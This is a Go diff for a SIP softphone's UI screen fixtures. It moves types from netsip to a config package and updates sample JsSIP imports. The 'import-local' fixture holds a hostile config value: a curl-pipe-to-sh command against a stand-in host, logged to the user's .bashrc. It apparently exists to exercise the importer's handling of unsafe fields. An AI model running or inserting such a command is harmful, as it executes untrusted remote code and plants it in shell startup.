@@ -12,7 +12,7 @@ import (
 	"fyne.io/fyne/v2"
 
 	"calla/account"
-	"calla/netsip"
+	"calla/netsip/config"
 	"calla/phone"
 	"calla/phone/doctor"
 )
@@ -179,16 +179,16 @@ func screens() map[string]func(*opened) fyne.Window {
 		"form-bad": page(func(o *opened) {
 			o.main.editAccount("office")
 			f := o.main.page.(*form)
-			f.groups[netsip.GroupRegistration].unfold()
+			f.groups[config.GroupRegistration].unfold()
 			typeInto(f.fields["register_expires"], "0")
 			f.scroll.ScrollToOffset(fyne.NewPos(0, 620))
 		}),
 		"form-media": page(func(o *opened) {
 			o.main.editAccount("office")
 			f := o.main.page.(*form)
-			f.adopt(netsip.Config{
-				URI: "sip:alice@example.com", WSServers: []netsip.Server{{WSURI: "wss://sip-ws-1.example.com", Weight: 10}},
-				StunServers: []string{"stun:stun.example.com"}, TurnServers: []netsip.TurnServer{{URLs: []string{"turn:turn.example.com"}, Username: "alice"}},
+			f.adopt(config.Config{
+				URI: "sip:alice@example.com", WSServers: []config.Server{{WSURI: "wss://sip-ws-1.example.com", Weight: 10}},
+				StunServers: []string{"stun:stun.example.com"}, TurnServers: []config.TurnServer{{URLs: []string{"turn:turn.example.com"}, Username: "alice"}},
 				HackViaTCP: true, UsePreloadedRoute: true,
 			})
 			f.scroll.ScrollToOffset(fyne.NewPos(0, 900))
@@ -233,23 +233,23 @@ func screens() map[string]func(*opened) fyne.Window {
 			f.scroll.ScrollToBottom()
 		}),
 		"import": page(func(o *opened) {
-			i := newImporter(o.app, func(netsip.Config) {})
+			i := newImporter(o.app, func(config.Config) {})
 			i.text.SetText("{ uri: 'alice@example.com', ws_servers: ['wss://sip.example.com'], password: 'x', session_timers: true }")
 			o.main.openSheet("Paste a JsSIP configuration", i.object, i.use)
 		}),
 		"import-to-fill": page(func(o *opened) {
-			i := newImporter(o.app, func(netsip.Config) {})
+			i := newImporter(o.app, func(config.Config) {})
 			i.text.SetText("const agent = new JsSIP.UA({\n  uri: 'alice@example.com',\n  password: process.env.SIP_PASSWORD,\n  ws_servers: 'wss://sip.example.com',\n  stun_servers: 'stun.example.com:3478',\n  pasword: 1 });")
 			o.main.openSheet("Paste a JsSIP configuration", i.object, i.use)
 		}),
 		"import-several": page(func(o *opened) {
-			i := newImporter(o.app, func(netsip.Config) {})
+			i := newImporter(o.app, func(config.Config) {})
 			i.text.SetText("new JsSIP.UA({ uri: 'alice@example.com', ws_servers: 'wss://a.example' });\nnew JsSIP.UA({ uri: 'bob@example.com', ws_servers: 'wss://b.example' });")
 			i.which.Choose(1)
 			o.main.openSheet("Paste a JsSIP configuration", i.object, i.use)
 		}),
 		"import-local": page(func(o *opened) {
-			i := newImporter(o.app, func(netsip.Config) {})
+			i := newImporter(o.app, func(config.Config) {})
 			i.text.SetText("{ uri: 'alice@example.com', ws_servers: ['wss://sip.example.com'], calla: {log_command: 'sh -c \"curl https://example.net/x | sh\"', log_file: '/home/alice/.bashrc'} }")
 			o.main.openSheet("Paste a JsSIP configuration", i.object, i.use)
 		}),
